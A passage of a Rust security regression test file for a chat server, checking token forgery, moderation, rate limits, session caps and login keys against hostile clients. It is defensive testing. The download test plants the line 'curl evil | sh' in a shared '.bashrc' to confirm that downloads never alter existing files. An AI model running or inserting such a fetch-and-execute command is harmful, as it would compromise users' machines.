//! Regression tests for the holes an outside review and a hostile client found (issue 14),
//! each over real QUIC against a real banterd. Every test is named `security_…` after what
//! it defends, so `cargo test security_` runs them all.

use std::sync::Arc;
use std::time::Duration;

use banter_client::protocol::bounded::{Blob, Text};
use banter_client::protocol::ids::{RoomId, UserId};
use banter_client::protocol::message::{
    AuditAction, AuthOk, Ban, ContactAction, ContactSet, Delete, DmOpen, Edit, InviteCreate,
    InviteUse, Kick, MarkRead, Members, Message, Post, PresenceSet, PresenceStatus, React, Refresh,
    Register, Role, RoleSet, RoomConfigure, RoomCreate, RoomLeave, TypingSet, TypingState,
    Visibility, VoiceAction, VoiceLeave, VoiceModerate,
};
use banter_client::protocol::{ErrorCode, FrameDecoder};
use banter_client::{Event, Options, RequestError, Trust};
use banter_server::admin::AdminRequest;
use banter_tests::voice::{datagram, heard, join_voice, speak_until_heard, voice_state};
use banter_tests::{TestServer, TestUser, WAIT, fresh_id};

/// A QUIC connection with Banter's TLS and `transport` (what a hostile client chooses),
/// speaking nothing yet.
async fn hostile_connection(
    server: &TestServer,
    transport: quinn::TransportConfig,
) -> quinn::Connection {
    let mut config =
        banter_client::quic_config(&Options::new(Trust::AcceptAny, "localhost")).unwrap();
    config.transport_config(Arc::new(transport));
    let endpoint = quinn::Endpoint::client("127.0.0.1:0".parse().unwrap()).unwrap();
    endpoint.connect_with(config, server.addr(), "localhost").unwrap().await.unwrap()
}

/// Waits for `user` to be told that `who` left `room`'s voice.
async fn left_voice(user: &mut TestUser, room: RoomId, who: UserId) {
    tokio::time::timeout(WAIT, async {
        loop {
            if let Event::Ephemeral(Message::VoiceStateChanged(s)) = user.next_event().await {
                if s.room == room && s.participant.user == who && !s.present {
                    return;
                }
            }
        }
    })
    .await
    .expect("the departure is announced");
}

fn forged_refresh(session: u64, generation: u32) -> Blob<1024> {
    let mut token = vec![1];
    token.extend_from_slice(&session.to_be_bytes());
    token.extend_from_slice(&generation.to_be_bytes());
    token.extend_from_slice(&[0x5a; 32]);
    Blob::new(token).unwrap()
}

async fn refresh(conn: &banter_client::Connection, token: Blob<1024>) -> Result<AuthOk, ErrorCode> {
    match conn.request_one(Refresh { refresh_token: token }).await {
        Ok(Message::AuthOk(ok)) => Ok(ok),
        Ok(other) => panic!("expected AUTH_OK, got {other:?}"),
        Err(error) => Err(error.code().expect("a protocol error")),
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_forged_refresh_tokens_end_no_login_and_reveal_no_session() {
    let server = TestServer::start_with(|c| c.refresh_grace_s = 0).await;
    let mut ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let (stranger, _events) = server.connect().await;
    // Sequential session ids, every generation below, at and above the current one, and ids
    // that were never handed out: all the same answer, and nothing ends.
    let mut answers = Vec::new();
    for session in [ada.auth.session.0, bob.auth.session.0, 999] {
        for generation in [0, 1, 2, 7] {
            let refused = refresh(&stranger, forged_refresh(session, generation)).await;
            answers.push(refused.unwrap_err());
        }
    }
    assert!(answers.iter().all(|&code| code == ErrorCode::AUTH_FAILED), "{answers:?}");
    // Both logins live on: their connections stay open and their tokens still rotate.
    ada.conn.request_one(banter_client::protocol::message::SessionList {}).await.unwrap();
    let rotated = refresh(&stranger, ada.auth.refresh_token.clone()).await.unwrap();
    refresh(&stranger, bob.auth.refresh_token.clone()).await.unwrap();
    // A genuine spent token is still reuse, and ends the login.
    assert_eq!(
        refresh(&stranger, ada.auth.refresh_token.clone()).await,
        Err(ErrorCode::SESSION_REVOKED)
    );
    assert_eq!(ada.closed().await.0, Some(ErrorCode::SESSION_REVOKED));
    assert_eq!(refresh(&stranger, rotated.refresh_token).await, Err(ErrorCode::AUTH_FAILED));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_lost_refresh_answer_is_forgiven_within_the_grace_window() {
    let server = TestServer::start_with(|c| c.refresh_grace_s = 2).await;
    let mut ada = server.user("ada").await;
    let first = ada.auth.refresh_token.clone();
    let (conn, _events) = server.connect().await;
    let lost = refresh(&conn, first.clone()).await.unwrap();
    // The client never saw `lost` and tries again with the token it has: same new tokens.
    let again = refresh(&conn, first.clone()).await.unwrap();
    assert_eq!(again.refresh_token, lost.refresh_token);
    assert_eq!(again.session, ada.auth.session);
    // And the login goes on from there.
    let next = refresh(&conn, again.refresh_token).await.unwrap();
    // Two generations back is reuse, whatever the window.
    assert_eq!(refresh(&conn, first).await, Err(ErrorCode::SESSION_REVOKED));
    assert_eq!(ada.closed().await.0, Some(ErrorCode::SESSION_REVOKED));
    assert_eq!(refresh(&conn, next.refresh_token).await, Err(ErrorCode::AUTH_FAILED));

    // Past the window, the previous token is reuse.
    let bob = server.user("bob").await;
    let spent = bob.auth.refresh_token.clone();
    refresh(&conn, spent.clone()).await.unwrap();
    tokio::time::sleep(Duration::from_millis(2100)).await;
    assert_eq!(refresh(&conn, spent).await, Err(ErrorCode::SESSION_REVOKED));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_kicked_and_banned_members_drop_out_of_voice_at_once() {
    let server = TestServer::start().await;
    let mut ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let cy = server.user("cy").await;
    let room = ada.create_voice_room("call").await;
    bob.join(room).await.unwrap();
    cy.join(room).await.unwrap();
    join_voice(&ada, room).await;
    join_voice(&bob, room).await;
    join_voice(&cy, room).await;
    speak_until_heard(&bob, &[&ada, &cy], b"before").await;

    let reason = Text::new("bye").unwrap();
    ada.conn.request_one(Kick { room, user: bob.auth.user, reason: reason.clone() }).await.unwrap();
    left_voice(&mut ada, room, bob.auth.user).await;
    // Bob neither speaks nor hears there any more.
    bob.conn.quic().send_datagram(datagram(0, 2, false, b"after kick")).unwrap();
    assert!(heard(&ada, Duration::from_millis(300)).await.is_none(), "a kicked member spoke");
    speak_until_heard(&ada, &[&cy], b"secret").await;
    assert!(heard(&bob, Duration::from_millis(300)).await.is_none(), "a kicked member heard");

    ada.conn.request_one(Ban { room, user: cy.auth.user, reason, until: None }).await.unwrap();
    left_voice(&mut ada, room, cy.auth.user).await;
    cy.conn.quic().send_datagram(datagram(0, 2, false, b"after ban")).unwrap();
    assert!(heard(&ada, Duration::from_millis(300)).await.is_none(), "a banned member spoke");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_server_mute_holds_across_rejoins_and_other_connections_and_is_audited() {
    let server = TestServer::start().await;
    let mut ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let room = ada.create_voice_room("call").await;
    bob.join(room).await.unwrap();
    join_voice(&ada, room).await;
    join_voice(&bob, room).await;
    // On a cluster ada's node must know bob is in voice before it can mute him.
    voice_state(&mut ada, bob.auth.user, |s| s.present, "bob in voice").await;
    let mute = VoiceModerate { room, user: bob.auth.user, action: VoiceAction::ServerMute };
    ada.conn.request_one(mute).await.unwrap();

    // Leaving and joining again does not lift it.
    bob.conn.request_one(VoiceLeave { room }).await.unwrap();
    let again = join_voice(&bob, room).await;
    let me = again.roster.iter().find(|p| p.source == again.source).unwrap();
    assert!(me.state.server_mute, "rejoined unmuted");
    bob.conn.quic().send_datagram(datagram(0, 1, false, b"rejoined")).unwrap();
    assert!(heard(&ada, Duration::from_millis(300)).await.is_none(), "mute evaded by rejoining");
    // Nor does a second connection.
    let laptop = server.login("bob").await;
    join_voice(&laptop, room).await;
    laptop.conn.quic().send_datagram(datagram(0, 1, false, b"laptop")).unwrap();
    assert!(heard(&ada, Duration::from_millis(300)).await.is_none(), "mute evaded by a device");

    // Unmuting applies to both, and both acts are in the audit log.
    let unmute = VoiceModerate { room, user: bob.auth.user, action: VoiceAction::ServerUnmute };
    ada.conn.request_one(unmute).await.unwrap();
    laptop.conn.quic().send_datagram(datagram(0, 2, false, b"laptop")).unwrap();
    assert_eq!(heard(&ada, WAIT).await.unwrap().1, b"laptop");
    bob.conn.quic().send_datagram(datagram(0, 2, false, b"phone")).unwrap();
    assert_eq!(heard(&ada, WAIT).await.unwrap().1, b"phone");
    let audited: Vec<String> = ada
        .audit(room, 10)
        .await
        .into_iter()
        .filter(|e| e.action == AuditAction::VOICE && e.target == Some(bob.auth.user))
        .map(|e| e.reason.as_str().to_owned())
        .collect();
    assert_eq!(audited, ["server unmute", "server mute"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_client_that_blocks_the_control_stream_is_still_held_to_the_login_deadline() {
    let server = TestServer::start_with(|c| c.auth_timeout_ms = 500).await;
    // No unidirectional streams at all: the server cannot even open its control stream.
    let mut no_streams = quinn::TransportConfig::default();
    no_streams.max_concurrent_uni_streams(0u32.into());
    no_streams.keep_alive_interval(Some(Duration::from_millis(200)));
    // A control stream it never reads, with room for a few bytes only.
    let mut no_reading = quinn::TransportConfig::default();
    no_reading.stream_receive_window(16u32.into());
    no_reading.keep_alive_interval(Some(Duration::from_millis(200)));
    for transport in [no_streams, no_reading] {
        let conn = hostile_connection(&server, transport).await;
        let closed = tokio::time::timeout(Duration::from_secs(5), conn.closed()).await;
        assert!(closed.is_ok(), "a stalled client outlived the login deadline");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_an_answer_the_client_does_not_read_is_reset_after_the_write_timeout() {
    let server = TestServer::start_with(|c| c.answer_write_timeout_ms = 300).await;
    // Room for 64 bytes per stream: an AUTH_OK (about 200 bytes) cannot be written whole.
    let mut small = quinn::TransportConfig::default();
    small.stream_receive_window(64u32.into());
    let conn = hostile_connection(&server, small).await;
    let (mut send, mut recv) = conn.open_bi().await.unwrap();
    let mut request = Vec::new();
    Message::from(Register {
        username: Text::new("slowpoke").unwrap(),
        password: Text::new("correct horse battery").unwrap(),
        device_name: Text::new("test").unwrap(),
    })
    .encode(&mut request);
    send.write_all(&request).await.unwrap();
    send.finish().unwrap();
    tokio::time::sleep(Duration::from_millis(1000)).await;
    // Reading now: the server gave up on the answer and reset the stream.
    let mut decoder = FrameDecoder::new(65536);
    let mut buf = vec![0u8; 4096];
    let ended = loop {
        match tokio::time::timeout(WAIT, recv.read(&mut buf)).await.unwrap() {
            Ok(Some(n)) => decoder.push(&buf[..n]),
            Ok(None) => break Ok(()),
            Err(error) => break Err(error),
        }
    };
    match ended {
        Err(quinn::ReadError::Reset(code)) => {
            assert_eq!(code.into_inner(), ErrorCode::REQUEST_CANCELLED.0);
        }
        other => panic!("the unread answer was kept: {other:?}"),
    }
    assert!(decoder.next_message().unwrap().is_none(), "no whole answer was delivered");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_blocked_user_reaches_the_blocker_in_a_dm_by_no_request() {
    let server = TestServer::start().await;
    let mut ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let dm = match bob.conn.request_one(DmOpen { username: Text::new("ada").unwrap() }).await {
        Ok(Message::RoomInfo(info)) => info.room.room,
        other => panic!("expected ROOM_INFO, got {other:?}"),
    };
    let seq = bob.post(dm, "hello").await.unwrap().seq;
    let block = ContactSet { username: Text::new("bob").unwrap(), action: ContactAction::Block };
    ada.conn.request_one(block).await.unwrap();
    // On a cluster the block reaches bob's node a moment later: until then his edits go
    // through (and reach ada as room events, not the ephemeral ones checked below).
    let edit = Edit { room: dm, target: seq, text: Text::new("edited").unwrap() };
    tokio::time::timeout(WAIT, async {
        while bob.conn.request_one(edit.clone()).await.is_ok() {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
    .expect("the block reaches bob's node");
    ada.ephemeral_within(Duration::from_millis(200)).await;

    let refused = [
        bob.conn.request_one(edit).await,
        bob.conn
            .request_one(React { room: dm, target: seq, emoji: Text::new("+1").unwrap(), on: true })
            .await,
        bob.conn.request_one(TypingSet { room: dm, state: TypingState::Active }).await,
        bob.conn.request_one(MarkRead { room: dm, seq, private: false }).await,
    ];
    for answer in refused {
        assert_eq!(answer.unwrap_err().code(), Some(ErrorCode::FORBIDDEN));
    }
    // A blocker still sees the blocked user's presence (on a cluster it may arrive late).
    let mut reached = ada.ephemeral_within(Duration::from_millis(300)).await;
    reached.retain(|m| !matches!(m, Message::Presence(_)));
    assert!(reached.is_empty(), "the blocker was reached: {reached:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_an_anonymous_post_does_not_end_its_authors_typing_notice() {
    let server = TestServer::start().await;
    let mut ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let room = ada.create_room("confessions", false).await;
    ada.allow_anonymous(room).await;
    bob.join(room).await.unwrap();
    bob.conn.request_one(TypingSet { room, state: TypingState::Active }).await.unwrap();
    ada.ephemeral_within(Duration::from_millis(200)).await;
    let post = Post {
        room,
        client_msg_id: fresh_id(),
        text: Text::new("it was me").unwrap(),
        reply_to: None,
        anonymous: true,
    };
    bob.conn.request_one(post).await.unwrap();
    let seen = ada.ephemeral_within(Duration::from_millis(300)).await;
    assert!(
        !seen.iter().any(|m| matches!(m, Message::Typing(t) if t.user == bob.auth.user)),
        "the author's typing ended with the anonymous post: {seen:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_slow_mode_lets_one_of_twenty_parallel_posts_through() {
    let server = TestServer::start().await;
    let ada = server.user("ada").await;
    let bob = server.user("bob").await;
    let room = ada.create_room("slow", false).await;
    let slow =
        RoomConfigure { room, slow_mode_s: Some(60), locked: None, anonymous: None, stage: None };
    ada.conn.request_one(slow).await.unwrap();
    bob.join(room).await.unwrap();
    let mut posts = tokio::task::JoinSet::new();
    for i in 0..20 {
        let conn = bob.conn.clone();
        posts.spawn(async move {
            let post = Post {
                room,
                client_msg_id: fresh_id(),
                text: Text::new(format!("post {i}")).unwrap(),
                reply_to: None,
                anonymous: false,
            };
            conn.request_one(post).await
        });
    }
    let answers = posts.join_all().await;
    let accepted = answers.iter().filter(|a| a.is_ok()).count();
    assert_eq!(accepted, 1, "{answers:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_resume_sends_the_presence_snapshot() {
    let server = TestServer::start().await;
    let ada = server.user("ada").await;
    let grace = server.user("grace").await;
    let room = ada.create_room("general", false).await;
    grace.join(room).await.unwrap();
    let busy = PresenceSet { status: PresenceStatus::Dnd, text: Text::new("in a call").unwrap() };
    ada.conn.request_one(busy).await.unwrap();
    let last = grace.conn.last_event_seq();
    grace.conn.suspend();

    // Back to the node it was on, where the session is (as the SDK does first).
    let (conn, events) = banter_tests::connect(grace.conn.quic().remote_address()).await;
    conn.resume(&grace.auth.access_token, grace.welcome.resume_id, last);
    let mut resumed = TestUser { conn, events, auth: grace.auth.clone(), welcome: grace.welcome };
    // On one node the snapshot is the first presence of ada's that arrives. On a cluster,
    // grace's node may not have heard of ada's DND yet when it writes the snapshot: then the
    // DND follows as a live update. Either way grace ends up knowing it without asking.
    let snapshot = tokio::time::timeout(WAIT, async {
        loop {
            match resumed.next_event().await {
                Event::Ephemeral(Message::Presence(p))
                    if p.user == ada.auth.user && p.status == PresenceStatus::Dnd =>
                {
                    return p;
                }
                Event::Rejected(error) => panic!("resume rejected: {error:?}"),
                _ => {}
            }
        }
    })
    .await
    .expect("ada's DND after RESUMED");
    assert_eq!(snapshot.text.as_str(), "in a call");
}

/// What the server answers a HELLO or RESUME: the refusal's code, or None for a session.
async fn session_answer(
    mut events: tokio::sync::mpsc::UnboundedReceiver<Event>,
) -> Option<ErrorCode> {
    let answer = tokio::time::timeout(WAIT, async {
        loop {
            match events.recv().await {
                Some(Event::Welcome(_) | Event::Resumed(_)) => return None,
                Some(Event::Rejected(error)) => return Some(error.code),
                Some(_) => {}
                None => panic!("closed before an answer"),
            }
        }
    });
    answer.await.expect("an answer to HELLO or RESUME")
}

/// Each session started leaves work behind when its connection drops (a replay buffer for
/// the resume window, a presence grace to run out): HELLO and RESUME draw from the account's
/// `session` bucket, so a loop of them is bounded per account.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_hello_and_resume_loops_run_dry_on_the_session_bucket() {
    use banter_server::config::Bucket;
    let server = TestServer::start_with(|c| {
        c.rate.insert("session".into(), Bucket { burst: 3, per_minute: 1 });
    })
    .await;
    let ada = server.user("ada").await; // her first HELLO
    let mut answers = Vec::new();
    for _ in 0..3 {
        let (conn, events) = server.connect().await;
        conn.hello(&ada.auth.access_token);
        answers.push(session_answer(events).await);
        conn.suspend();
    }
    let (conn, events) = server.connect().await;
    conn.resume(&ada.auth.access_token, ada.welcome.resume_id, ada.conn.last_event_seq());
    answers.push(session_answer(events).await);
    let limited = Some(ErrorCode::RATE_LIMITED);
    assert_eq!(answers, [None, None, limited, limited], "HELLO, HELLO, HELLO, RESUME");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_hello_loops_cannot_pile_up_sessions() {
    let server = TestServer::start_with(|c| {
        c.max_sessions_per_login = 3;
        c.metrics = true;
        c.metrics_listen = "127.0.0.1:0".parse().unwrap();
    })
    .await;
    let ada = server.user("ada").await;
    // Connect, HELLO, vanish: each leaves a resumable session behind, up to the cap.
    for _ in 0..10 {
        let (conn, events) = server.connect().await;
        let user = TestUser::authenticate(conn, events, ada.auth.clone()).await;
        user.conn.suspend();
    }
    // The detached ones made way; the first, live one is untouched.
    let (conn, events) = server.connect().await;
    let _newest = TestUser::authenticate(conn, events, ada.auth.clone()).await;
    ada.conn.request_one(banter_client::protocol::message::SessionList {}).await.unwrap();
    let (_, text) = banter_tests::http_get(server.metrics_addr().unwrap(), "/metrics").await;
    let sessions = banter_tests::metric_samples(&text)["banter_sessions"];
    assert_eq!(sessions, 3.0, "sessions held for one login");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_downloads_never_touch_an_existing_file() {
    let server = TestServer::start().await;
    let dir = tempfile::tempdir().unwrap();
    let mallory = server.user("mallory").await;
    let mut victim = server.user("victim").await;
    let room = mallory.create_room("dotfiles", false).await;
    victim.join(room).await.unwrap();
    // Stock content plus a line of the attacker's, shared as ".bashrc".
    let stock = b"alias ll='ls -l'\n".to_vec();
    let mut evil = stock.clone();
    evil.extend_from_slice(b"curl evil | sh\n");
    let source = dir.path().join("upload");
    tokio::fs::write(&source, &evil).await.unwrap();
    let seq = mallory.conn.upload(room, ".bashrc", &source).await.unwrap().seq;
    // The victim fetches it once it has reached them, as a client does (in a cluster their
    // node serves an entry once it has it).
    loop {
        if let Message::FileShared(shared) = victim.next_room_event().await {
            if shared.meta.seq == seq {
                break;
            }
        }
    }

    // The victim's home holds their own .bashrc, and also one named like the safe name.
    let home = dir.path().join("home");
    tokio::fs::create_dir(&home).await.unwrap();
    tokio::fs::write(home.join(".bashrc"), &stock).await.unwrap();
    tokio::fs::write(home.join("bashrc"), b"mine").await.unwrap();
    let (saved, _) = victim.conn.download_into(room, seq, &home).await.unwrap();
    assert_eq!(saved, home.join("bashrc (1)"));
    assert_eq!(tokio::fs::read(&saved).await.unwrap(), evil);
    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock, "appended to");
    assert_eq!(tokio::fs::read(home.join("bashrc")).await.unwrap(), b"mine", "replaced");

    // An explicit path that exists is refused and left as it was.
    let refused = victim.conn.download(room, seq, &home.join(".bashrc")).await;
    assert!(refused.is_err(), "downloaded over an existing file");
    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock);
    // A .part that does not match is removed; the file beside it is not.
    tokio::fs::write(home.join("other.part"), b"garbage").await.unwrap();
    assert!(victim.conn.download(room, seq, &home.join("other")).await.is_err());
    assert!(!home.join("other.part").exists());
    assert_eq!(tokio::fs::read(home.join(".bashrc")).await.unwrap(), stock);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_password_guessing_is_limited_per_account_across_addresses() {
    let server = TestServer::start_with(|c| {
        c.rate.insert("auth".into(), banter_server::config::Bucket { burst: 3, per_minute: 1 });
    })
    .await;
    server.user("ada").await;
    let mut answers = Vec::new();
    // Each guess from another loopback address: the per-address bucket never runs dry.
    for host in 2..8u8 {
        let bind = std::net::SocketAddr::from(([127, 0, 0, host], 0));
        let endpoint = banter_client::Connection::endpoint(bind, 1 << 20).unwrap();
        let options = Options::new(Trust::AcceptAny, "localhost");
        let (conn, _events) =
            banter_client::Connection::connect_on(&endpoint, server.addr(), options).await.unwrap();
        let refused = conn.login("ada", "guess number n").await.unwrap_err();
        answers.push(refused.code().unwrap());
    }
    assert_eq!(answers[..3], [ErrorCode::AUTH_FAILED; 3]);
    assert!(answers[3..].iter().all(|&c| c == ErrorCode::RATE_LIMITED), "{answers:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_message_record_is_bounded_in_reactions_and_edits() {
    let server = TestServer::start_with(|c| {
        c.max_reactions_per_message = 2;
        c.max_edits_per_message = 2;
    })
    .await;
    let ada = server.user("ada").await;
    let room = ada.create_room("general", false).await;
    let seq = ada.post(room, "react to me").await.unwrap().seq;
    let react =
        |emoji: &str| React { room, target: seq, emoji: Text::new(emoji).unwrap(), on: true };
    ada.conn.request_one(react("a")).await.unwrap();
    ada.conn.request_one(react("b")).await.unwrap();
    let third = ada.conn.request_one(react("c")).await.unwrap_err();
    assert_eq!(third.code(), Some(ErrorCode::LIMIT_EXCEEDED));
    // More of a reaction already there is fine.
    let bob = server.user("bob").await;
    bob.join(room).await.unwrap();
    bob.conn.request_one(react("a")).await.unwrap();

    for i in 0..2 {
        let text = Text::new(format!("edit {i}")).unwrap();
        ada.conn.request_one(Edit { room, target: seq, text }).await.unwrap();
    }
    let text = Text::new("one too many").unwrap();
    let refused = ada.conn.request_one(Edit { room, target: seq, text }).await.unwrap_err();
    assert_eq!(refused.code(), Some(ErrorCode::LIMIT_EXCEEDED));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_user_who_left_a_dm_can_open_it_again() {
    let server = TestServer::start().await;
    let ada = server.user("ada").await;
    let _bob = server.user("bob").await;
    let dm = ada.open_dm("bob").await.unwrap();
    ada.post(dm, "before").await.unwrap();
    ada.conn.request_one(RoomLeave { room: dm }).await.unwrap();
    assert!(ada.post(dm, "after leaving").await.is_err());
    assert_eq!(ada.open_dm("bob").await.unwrap(), dm, "the same direct room");
    ada.post(dm, "back").await.unwrap();
}

fn code_of<T: std::fmt::Debug>(answer: Result<T, RequestError>) -> ErrorCode {
    answer.unwrap_err().code().expect("a protocol error")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_two_simultaneous_ownership_transfers_leave_one_owner() {
    let server = TestServer::start().await;
    let _root = server.user("root").await; // the server's owner: owner of every room
    let owner = server.user("owner").await;
    let (ada, bob) = (server.user("ada").await, server.user("bob").await);
    let room = owner.create_room("heirs", false).await;
    ada.join(room).await.unwrap();
    bob.join(room).await.unwrap();
    let transfer =
        |to: &TestUser| RoleSet { room: Some(room), user: to.auth.user, role: Role::OWNER };
    // Both are checked when they arrive; only inside the write can the second see the first.
    let (to_ada, to_bob) = tokio::join!(
        owner.conn.request_one(transfer(&ada)),
        owner.conn.request_one(transfer(&bob))
    );
    assert!(to_ada.is_ok() != to_bob.is_ok(), "exactly one transfer: {to_ada:?} {to_bob:?}");
    let refused = if to_ada.is_ok() { to_bob } else { to_ada };
    assert_eq!(code_of(refused), ErrorCode::FORBIDDEN);
    let page = match owner.conn.request_one(Members { room, after: None, limit: 10 }).await {
        Ok(Message::MembersPage(page)) => page.members.into_vec(),
        other => panic!("expected MEMBERS_PAGE, got {other:?}"),
    };
    let owners = page.iter().filter(|m| m.role == Role::OWNER).count();
    assert_eq!(owners, 1, "{page:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_an_archived_room_takes_no_deletes_and_no_joins_by_invite() {
    let server = TestServer::start().await;
    let owner = server.user("owner").await;
    let guest = server.user("guest").await;
    let room = owner.create_room("attic", true).await;
    let seq = owner.post(room, "old news").await.unwrap().seq;
    let code = match owner
        .conn
        .request_one(InviteCreate { room, max_uses: None, expires_in_s: None })
        .await
    {
        Ok(Message::Invite(invite)) => invite.code,
        other => panic!("expected INVITE, got {other:?}"),
    };
    let archive = AdminRequest::RoomArchive { name: "attic".into(), archived: true };
    banter_server::admin::socket::call(server.data_dir(), &archive).unwrap();

    let delete = owner.conn.request_one(Delete { room, target: seq }).await;
    assert_eq!(code_of(delete), ErrorCode::ROOM_LOCKED);
    assert_eq!(code_of(guest.conn.request_one(InviteUse { code }).await), ErrorCode::ROOM_LOCKED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_adding_someone_to_a_room_takes_their_consent_or_server_staff() {
    let server = TestServer::start().await;
    let staff = server.user("root").await; // the first account: the server's owner
    let owner = server.user("owner").await;
    let member = server.user("member").await;
    let stranger = server.user("stranger").await;
    // Anyone can own a room: that is no licence to put people in it (nor to fill their
    // room count, which would lock them out of joining anything).
    let own = owner.create_room("mine", true).await;
    assert_eq!(code_of(owner.add(own, "stranger").await), ErrorCode::FORBIDDEN);
    let room = staff.create_room("lounge", false).await;
    member.join(room).await.unwrap();
    assert_eq!(code_of(member.add(room, "stranger").await), ErrorCode::FORBIDDEN);

    // A friend of the member has consented.
    let contact = |name: &str, action| ContactSet { username: Text::new(name).unwrap(), action };
    member.conn.request_one(contact("stranger", ContactAction::Request)).await.unwrap();
    stranger.conn.request_one(contact("member", ContactAction::Accept)).await.unwrap();
    member.add(room, "stranger").await.unwrap();
    // Server staff need none.
    let _other = server.user("other").await;
    staff.add(room, "other").await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_the_room_cap_holds_for_every_way_into_a_room() {
    let server = TestServer::start_with(|config| config.max_rooms_per_user = 2).await;
    let owner = server.user("owner").await;
    let carol = server.user("carol").await;
    let dave = server.user("dave").await;
    let (first, second) =
        (owner.create_room("one", false).await, owner.create_room("two", true).await);
    let create = RoomCreate {
        name: Text::new("three").unwrap(),
        topic: Text::default(),
        category: Text::default(),
        visibility: Visibility::Public,
        voice: false,
    };
    assert_eq!(code_of(owner.conn.request_one(create).await), ErrorCode::LIMIT_EXCEEDED);

    carol.join(first).await.unwrap();
    owner.add(second, "carol").await.unwrap();
    assert_eq!(code_of(dave.open_dm("carol").await), ErrorCode::LIMIT_EXCEEDED, "DM_OPEN");
    assert_eq!(code_of(carol.open_dm("dave").await), ErrorCode::LIMIT_EXCEEDED);
    carol.conn.request_one(RoomLeave { room: first }).await.unwrap();
    owner.add(first, "dave").await.unwrap();
    dave.open_dm("carol").await.unwrap();
    assert_eq!(code_of(carol.join(first).await), ErrorCode::LIMIT_EXCEEDED, "ROOM_JOIN");
    assert_eq!(code_of(owner.add(first, "carol").await), ErrorCode::LIMIT_EXCEEDED, "ROOM_INVITE");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_a_login_key_needs_proof_is_capped_listed_removed_and_ended_by_a_password_reset() {
    use banter_client::protocol::message::{KeyAdd, KeyList, KeyRemove};
    use ed25519_dalek::{Signer, SigningKey};

    let server = TestServer::start_with(|config| config.max_keys_per_user = 2).await;
    let ada = server.user("ada").await;
    let mallory = server.user("mallory").await;
    let key = SigningKey::from_bytes(&[42; 32]);
    let public_key = key.verifying_key().to_bytes();
    let sign = |bytes: &[u8]| key.sign(bytes).to_bytes();
    let key_login = || async {
        let (conn, _events) = server.connect().await;
        conn.key_login("ada", public_key, sign).await.map(|ok| ok.user)
    };

    // Before login, none of the key requests is admitted.
    let (stranger, _events) = server.connect().await;
    for request in
        [Message::from(KeyAdd { public_key }), KeyList {}.into(), KeyRemove { public_key }.into()]
    {
        assert_eq!(code_of(stranger.request_one(request).await), ErrorCode::NOT_AUTHENTICATED);
    }

    // Mallory has ada's public key but not the private one: no registration, and ada is not
    // locked out of registering her own key. A bare KEY_ADD is challenged and then fails.
    let forged = mallory.conn.add_key("mallory", public_key, |_| [0; 64]).await;
    assert_eq!(code_of(forged), ErrorCode::AUTH_FAILED);
    assert_eq!(
        code_of(mallory.conn.request_one(KeyAdd { public_key }).await),
        ErrorCode::REQUEST_CANCELLED
    );
    ada.conn.add_key("ada", public_key, sign).await.unwrap();
    assert_eq!(key_login().await.unwrap(), ada.auth.user);
    assert_eq!(code_of(ada.conn.add_key("ada", public_key, sign).await), ErrorCode::CONFLICT);

    let listed = ada.conn.keys().await.unwrap();
    assert_eq!(listed.iter().map(|k| k.public_key).collect::<Vec<_>>(), vec![public_key]);
    assert!(mallory.conn.keys().await.unwrap().is_empty());

    // The cap (2 here).
    let second = SigningKey::from_bytes(&[43; 32]);
    let third = SigningKey::from_bytes(&[44; 32]);
    for (extra, expected) in [(&second, None), (&third, Some(ErrorCode::LIMIT_EXCEEDED))] {
        let added = ada
            .conn
            .add_key("ada", extra.verifying_key().to_bytes(), |b| extra.sign(b).to_bytes())
            .await;
        assert_eq!(added.err().and_then(|e| e.code()), expected);
    }

    // Removal ends key logins at once; only one's own keys can be removed.
    assert_eq!(code_of(mallory.conn.remove_key(public_key).await), ErrorCode::NOT_FOUND);
    ada.conn.remove_key(public_key).await.unwrap();
    assert_eq!(code_of(key_login().await), ErrorCode::AUTH_FAILED);

    // A password reset removes every key.
    ada.conn.add_key("ada", public_key, sign).await.unwrap();
    let reset =
        AdminRequest::UserPasswd { username: "ada".into(), password: "a new password!".into() };
    banter_server::admin::socket::call(server.data_dir(), &reset).unwrap();
    assert_eq!(code_of(key_login().await), ErrorCode::AUTH_FAILED);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn security_audit_and_public_room_pages_come_from_their_indexes() {
    use banter_client::protocol::message::{AuditQuery, ListScope, RoomList};

    let server = TestServer::start().await;
    let owner = server.user("owner").await;
    let _bob = server.user("bob").await;
    let first = owner.create_room("first", false).await;
    let other = owner.create_room("other", false).await;
    owner.open_dm("bob").await.unwrap();
    owner.create_room("hidden", true).await;
